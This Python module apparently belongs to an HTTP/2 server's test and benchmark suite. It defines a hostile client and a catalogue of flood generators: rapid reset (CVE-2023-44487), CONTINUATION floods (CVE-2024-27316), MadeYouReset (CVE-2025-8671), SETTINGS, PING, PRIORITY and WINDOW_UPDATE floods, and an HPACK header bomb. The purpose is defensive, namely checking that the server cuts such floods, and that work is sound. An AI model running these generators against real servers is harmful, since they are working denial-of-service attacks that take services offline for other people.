"""What hostile peers of HTTP/2 send, and a client that sends it without a care (RFC 9113 section 10.5).

A flood is what costs a peer next to nothing and is repeated until it is cut: `step(n)` are the bytes of the
n-th repetition. The tests bound what floods do; the bench measures what they cost.
"""

from __future__ import annotations

import select
import socket
import struct
from collections import Counter
from collections.abc import Callable, Iterable
from dataclasses import dataclass

from kit import blocks
from kit.http2 import (
    PREFACE,
    Code,
    Flag,
    Frame,
    Type,
    data,
    headers,
    headers_raw,
    ping,
    priority,
    request,
    reset,
    settings,
    window_update,
)
from kit.limits import DEADLINE
from kit.wire import Address, connect

BATCH = 1 << 14  # bytes that are sent between two looks at what has come back
GET = blocks.block(request(path="/small"))
POST = blocks.block(request("POST", "/small"))
LARGE = (1 << 31) - 1


class Attacker:
    """A connection that sends what it is told, and takes from what comes no more than how it ended."""

    def __init__(
        self,
        address: Address,
        values: Iterable[tuple[int, int]] = (),
        *,
        agree: bool = True,
        lively: bool = True,
    ) -> None:
        self.conn = connect(address)
        self.agree = agree  # acknowledge SETTINGS
        self.lively = lively  # answer PINGs
        self.frames: Counter[int] = Counter()  # what came, by type
        self.resets: Counter[int] = Counter()  # RST_STREAM, by code
        self.code: int | None = None  # of the latest GOAWAY
        self.closed = False
        self.sent = 0
        self.send(PREFACE, settings(values))

    def __enter__(self) -> Attacker:
        return self

    def __exit__(self, *_: object) -> None:
        self.conn.close()

    def send(self, *parts: Frame | bytes) -> None:
        out = memoryview(b"".join(part.encode() if isinstance(part, Frame) else part for part in parts))
        sock = self.conn.sock
        while out and not self.closed:
            _, writable, _ = select.select([], [sock], [], DEADLINE)
            assert writable, "the server does not read"
            try:
                sent = sock.send(out[:BATCH], socket.MSG_DONTWAIT)
            except BlockingIOError:
                continue
            except (BrokenPipeError, ConnectionResetError):
                self.read_all()
                return
            out = out[sent:]
            self.sent += sent

    def read(self) -> None:
        """Whatever has come."""
        while not self.closed and select.select([self.conn.sock], [], [], 0)[0]:
            self._fill()

    def read_all(self) -> None:
        """Until the server closes."""
        while not self.closed:
            self._fill()

    def _fill(self) -> None:
        try:
            self.closed = not self.conn.fill()
        except ConnectionResetError:
            self.closed = True
        buffer = self.conn.buffer
        while len(buffer) >= 9 and len(buffer) >= 9 + (length := int.from_bytes(buffer[:3])):
            head = self.conn.take(9)
            self._came(head[3], head[4], self.conn.take(length))

    def _came(self, kind: int, flags: int, payload: bytes) -> None:
        self.frames[kind] += 1
        if kind == Type.SETTINGS and not flags & Flag.ACK and self.agree:
            self.send(settings(ack=True))
        elif kind == Type.PING and not flags & Flag.ACK and self.lively:
            self.send(ping(payload, ack=True))
        elif kind == Type.GOAWAY:
            self.code = struct.unpack(">II", payload[:8])[1]
        elif kind == Type.RST_STREAM:
            self.resets[int.from_bytes(payload)] += 1

    def flood(self, step: Callable[[int], bytes], most: int) -> int:
        """Repeat `step` until the server has had enough, or `most` times: how often it was sent."""
        number = 0
        while self.agree and not self.closed and not self.frames[Type.SETTINGS]:
            self._fill()  # an acknowledgement later on would stand within a header block: another offence
        while number < most and not self.closed and self.code in (None, Code.NO_ERROR):
            out = bytearray()
            while number < most and len(out) < BATCH:
                out += step(number)
                number += 1
            self.send(bytes(out))
            self.read()
        return number


@dataclass(frozen=True)
class Flood:
    """`reasons`: it is counted as one of these. `most`: repetitions by which it must have been cut."""

    name: str
    reasons: tuple[str, ...]
    most: int
    step: Callable[[int], bytes]
    code: int = Code.ENHANCE_YOUR_CALM


def _stream(number: int) -> int:
    return 2 * number + 1


def _get(number: int) -> bytes:
    return headers_raw(_stream(number), GET, end=True).encode()


def _post(number: int) -> bytes:
    return headers_raw(_stream(number), POST).encode()


def rapid_reset(number: int) -> bytes:
    """CVE-2023-44487."""
    return _get(number) + reset(_stream(number)).encode()


def rapid_reset_of_uploads(number: int) -> bytes:
    return _post(number) + reset(_stream(number)).encode()


def _open_once(frame: Frame | bytes) -> Callable[[int], bytes]:
    """The first step opens stream 1, whose request goes on; every step sends the frame."""
    part = frame.encode() if isinstance(frame, Frame) else frame
    return lambda number: (_post(0) if number == 0 else b"") + part


def _continuation(content: bytes) -> Callable[[int], bytes]:
    """CVE-2024-27316 and its family: a header block that never ends."""
    part = Frame(Type.CONTINUATION, 0, 1, content).encode()
    head = Frame(Type.HEADERS, 0, 1, GET).encode()
    return lambda number: (head if number == 0 else b"") + part


def _made_you_reset(offence: Callable[[int], bytes]) -> Callable[[int], bytes]:
    """CVE-2025-8671: a request, and then what the server has to reset its stream for."""
    return lambda number: _get(number) + offence(_stream(number))


def _too_long(stream: int) -> bytes:
    return data(stream, b"more than that").encode()


def _said_length(number: int) -> bytes:
    fields = request("POST", "/small", [("content-length", "1")])
    return headers(_stream(number), fields).encode() + _too_long(_stream(number))


_KEEP = Frame(Type.PRIORITY, 0, 1, priority(3)).encode()
_SELF = Frame(Type.PRIORITY, 0, 1, priority(1)).encode()

FLOODS = [
    Flood("rapid-reset", ("h2_reset_flood",), 5_000, rapid_reset),
    Flood("rapid-reset-uploads", ("h2_reset_flood",), 5_000, rapid_reset_of_uploads),
    Flood("continuation-bytes", ("h2_header_flood",), 5_000, _continuation(b"\0")),
    Flood("continuation-empty", ("h2_header_flood",), 5_000, _continuation(b"")),
    Flood(
        "continuation-large", ("h2_header_flood",), 5_000, _continuation(blocks.field("x-a", "b" * 16_000))
    ),
    Flood("settings", ("h2_settings_flood",), 5_000, lambda number: settings([(4, 65535)]).encode()),
    Flood("settings-empty", ("h2_settings_flood",), 5_000, lambda number: settings().encode()),
    # Which comes first, too many or too many whose answers it has not taken, is a matter of time.
    Flood("ping", ("h2_ping_flood", "h2_output_flood"), 50_000, lambda number: ping().encode()),
    Flood("data-empty", ("h2_empty_flood",), 10_000, _open_once(data(1))),
    Flood(
        "data-padding", ("h2_empty_flood",), 10_000, _open_once(Frame(Type.DATA, Flag.PADDED, 1, b"\3\0\0\0"))
    ),
    Flood("priority", ("h2_priority_flood",), 50_000, _open_once(_KEEP)),
    Flood("priority-of-itself", ("h2_priority_flood",), 50_000, _open_once(_SELF)),
    Flood("unknown-frames", ("h2_priority_flood",), 50_000, lambda number: Frame(0x42, 0, 0, b"?").encode()),
    Flood("window-update", ("h2_window_flood",), 200_000, lambda number: window_update(0, 1).encode()),
    Flood("window-update-stream", ("h2_window_flood",), 200_000, _open_once(window_update(1, 1))),
    Flood(
        "made-you-reset-overflow",
        ("h2_provoked_flood",),
        5_000,
        _made_you_reset(lambda stream: window_update(stream, LARGE).encode()),
    ),
    Flood(
        "made-you-reset-zero",
        ("h2_protocol_error",),
        5_000,
        _made_you_reset(lambda stream: window_update(stream, 0).encode()),
        Code.PROTOCOL_ERROR,
    ),
    Flood("made-you-reset-length", ("h2_provoked_flood",), 5_000, _said_length),
]


def bomb(stream: int) -> bytes:
    """A field of 4000 bytes into the table, and 16,000 references of a byte each: 64 MB of fields."""
    field = blocks.literal("x-bomb", "b" * 4000, "incremental")
    references = blocks.indexed(blocks.FIRST_DYNAMIC) * 16_000
    block = GET + field + references
    first = Frame(Type.HEADERS, Flag.END_STREAM, stream, block[:16384]).encode()
    return first + Frame(Type.CONTINUATION, Flag.END_HEADERS, stream, block[16384:]).encode()
